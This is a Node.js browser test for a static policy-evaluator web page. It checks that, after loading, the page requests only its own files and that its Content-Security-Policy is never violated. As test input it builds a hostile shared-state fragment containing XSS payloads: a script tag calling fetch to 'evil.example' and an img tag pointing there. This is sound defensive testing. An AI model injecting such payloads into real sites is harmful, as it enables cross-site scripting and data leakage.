// Privacy and safety: after load the page requests nothing but its own static files, whatever it evaluates or
// decodes; the Content-Security-Policy forbids inline script and is never violated.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { deflateRawSync } from 'node:zlib';
import { serveDist, launch } from './harness.mjs';

let site, browser;
before(async () => { site = await serveDist(); browser = await launch(); });
after(async () => { await browser?.close(); site?.server.close(); });

test('only the page\'s own files are requested, and the CSP holds', async () => {
  const files = new Set(await readdir(new URL('../../dist/', import.meta.url)));
  const page = await browser.newPage();
  const requests = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const hostile = { v: 1, engine: 'x', catalog: 'y', decision: 'allow', boundary: [], view: {},
    policies: [{ name: '<script>fetch("https://evil.example/x")</script>', text: '{"version":"2.0","statement":[{"effect":"allow","action":"*","resource":"https://evil.example/x"}]}' }],
    request: '{"action": "ccc:CreateStaff", "resource": "qcs::ccc::uin/1:SdkAppId/<img src=https://evil.example/y>"}' };
  const fragment = `#s1.${deflateRawSync(Buffer.from(JSON.stringify(hostile))).toString('base64url')}`;
  await page.goto(site.url + fragment);
  await page.waitForSelector('[role=status]');
  // Exercise evaluation, decoding and the catalog.
  await page.locator('.example-picker select').selectOption('office-ip-only');
  await page.waitForSelector('.pane [data-decision="implicit_deny"]');
  await page.locator('button.copy-link').click();
  await page.locator('.catalog input[type=search]').fill('Staff');
  await page.evaluate(() => { location.hash = '#s1.AAAA'; });
  await page.waitForSelector('.banner-bar.error');
  const origin = new URL(site.url).origin;
  for (const url of requests) {
    const parsed = new URL(url);
    assert.equal(parsed.origin, origin, `request left the page's origin: ${url}`);
    const file = parsed.pathname.replace(/^\//, '') || 'index.html';
    assert.ok(files.has(file), `request for something that is not a static file of the page: ${url}`);
  }
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  assert.equal(await page.evaluate(() => document.querySelectorAll('script:not([src])').length), 0, 'no inline script');
  await page.close();
});
